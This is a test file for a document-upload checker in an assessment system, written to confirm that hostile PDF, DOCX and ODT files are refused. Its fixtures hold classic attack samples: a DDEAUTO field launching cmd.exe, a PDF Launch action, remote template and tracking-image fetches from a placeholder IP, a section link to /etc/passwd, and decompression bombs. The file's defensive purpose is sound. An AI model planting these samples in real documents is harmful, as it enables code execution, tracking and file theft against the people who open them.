"""Hostile uploads: active content and outside references are refused with a clear message;
documents built to exhaust a worker are refused quickly, read in a child process held to a
time and memory ceiling."""

import time

import pytest

from assessment import documents
from assessment.documents import UnacceptableFile, document_inspect
from tests.documents import (
    docx_of_document_xml,
    docx_with,
    docx_with_field,
    docx_with_unsupported_compression,
    make_docx,
    make_pdf_with_a_web_link,
    make_pdf_with_action,
    make_pdf_with_document_javascript,
    make_pdf_with_indirect_action_name,
    odt_with,
    relationships,
)

MB = 1024 * 1024
LIMITS = {"max_bytes": 10 * MB, "max_unpacked_bytes": 100 * MB}
MACRO_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Override PartName="/word/document.xml" ContentType="application/'
    'vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
)


def _inspect(data, filename="essay.docx"):
    return document_inspect(data=data, filename=filename, **LIMITS)


HOSTILE = {
    "pdf-javascript-open-action": (
        lambda: make_pdf_with_action({"/S": "/JavaScript", "/JS": "app.launchURL('x')"}),
        "active content",
    ),
    "pdf-launch-action": (
        lambda: make_pdf_with_action({"/S": "/Launch", "/F": "cmd.exe"}),
        "a Launch action",
    ),
    "pdf-document-javascript": (make_pdf_with_document_javascript, "active content"),
    "pdf-launch-named-indirectly": (make_pdf_with_indirect_action_name, "a Launch action"),
    "docx-includepicture-field": (
        lambda: docx_with_field('INCLUDEPICTURE "http://198.51.100.9/t.png" \\d'),
        "the field INCLUDEPICTURE",
    ),
    "docx-ddeauto-field": (
        lambda: docx_with_field('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'),
        "the field DDEAUTO",
    ),
    "docx-ole-object": (
        lambda: docx_with({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 ole"}),
        "embedded program objects",
    ),
    "odt-macro-link": (
        lambda: odt_with(
            '<text:p><text:a xlink:href="vnd.sun.star.script:Standard.Module1.Run?'
            'language=Basic&amp;location=document">Click</text:a></text:p>'
        ),
        "a link to vnd.sun.star.script",
    ),
    "docx-macros-in-vbaproject": (
        lambda: docx_with({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macros"}),
        "macros",
    ),
    "docm-renamed-docx": (lambda: docx_with({}, content_types=MACRO_TYPES), "macros"),
    "docx-external-template": (
        lambda: docx_with(
            {
                "word/settings.xml": "<w:settings/>",
                "word/_rels/settings.xml.rels": relationships(
                    ("attachedTemplate", "http://198.51.100.9/t.dotm", True)
                ),
            }
        ),
        "an attached template",
    ),
    "docx-external-picture": (
        lambda: docx_with(
            {
                "word/_rels/document.xml.rels": relationships(
                    ("image", "http://198.51.100.9/track.png", True)
                )
            }
        ),
        "a picture",
    ),
    "odt-external-picture": (
        lambda: odt_with(
            '<text:p>Essay<draw:frame><draw:image xlink:href="http://198.51.100.9/i.png"/>'
            "</draw:frame></text:p>"
        ),
        "http://198.51.100.9/i.png",
    ),
    "odt-linked-section": (
        lambda: odt_with(
            '<text:section><text:section-source xlink:href="file:///etc/passwd"/></text:section>'
        ),
        "outside the file",
    ),
    "odt-basic-macros": (
        lambda: odt_with("<text:p>Essay</text:p>", {"Basic/Standard/Module1.xml": "<x/>"}),
        "macros",
    ),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_active_content_and_outside_references_are_refused_with_a_reason(case):
    make, message = HOSTILE[case]
    filename = "essay.pdf" if case.startswith("pdf") else "essay.docx"
    with pytest.raises(UnacceptableFile, match=message):
        _inspect(make(), filename=filename)


@pytest.mark.parametrize(
    "make",
    [
        make_pdf_with_a_web_link,
        lambda: docx_with(
            {
                "word/_rels/document.xml.rels": relationships(
                    ("hyperlink", "https://www.nice.org.uk/guidance/cg78", True),
                    ("styles", "styles.xml", False),
                )
            }
        ),
        lambda: odt_with(
            '<text:p>See <text:a xlink:href="https://www.nice.org.uk/">NICE</text:a></text:p>'
        ),
    ],
    ids=["pdf-web-link", "docx-hyperlink", "odt-hyperlink"],
)
def test_links_to_web_pages_in_the_text_are_fine(make):
    assert _inspect(make()).word_count >= 1


def test_a_zip_no_reader_can_open_is_refused_as_unreadable_not_a_500():
    with pytest.raises(UnacceptableFile, match="could not read"):
        _inspect(docx_with_unsupported_compression())


def _timed(data):
    started = time.monotonic()
    with pytest.raises(UnacceptableFile) as refused:
        _inspect(data)
    return time.monotonic() - started, str(refused.value)


def test_a_small_docx_unpacking_to_96_mb_of_text_is_refused_in_moments():
    paragraph = b"<w:p><w:r><w:t>" + b"word " * 2000 + b"</w:t></w:r></w:p>"
    document = (
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b"<w:body>" + paragraph * (96 * MB // len(paragraph)) + b"</w:body></w:document>"
    )
    data = docx_of_document_xml(document)
    assert len(data) < 2 * MB  # 96 MB inside
    seconds, message = _timed(data)
    assert "far more text than an assignment" in message
    assert seconds < 5


def test_a_docx_of_millions_of_empty_elements_is_refused_in_moments():
    document = (
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b"<w:body>" + b"<w:p/>" * (90 * MB // 6) + b"</w:body></w:document>"
    )
    seconds, message = _timed(docx_of_document_xml(document))
    assert "unpacks to far more than a document should" in message
    assert seconds < 5


def test_reading_is_stopped_when_its_time_is_up(settings, monkeypatch):
    settings.DOCUMENT_READ_SECONDS = 0.2
    monkeypatch.setattr(documents, "document_read", _endless)  # the child forks with it
    started = time.monotonic()
    with pytest.raises(UnacceptableFile, match="took too long to read"):
        _inspect(make_docx("An essay."))
    assert time.monotonic() - started < 5


def _endless(*args):
    time.sleep(60)
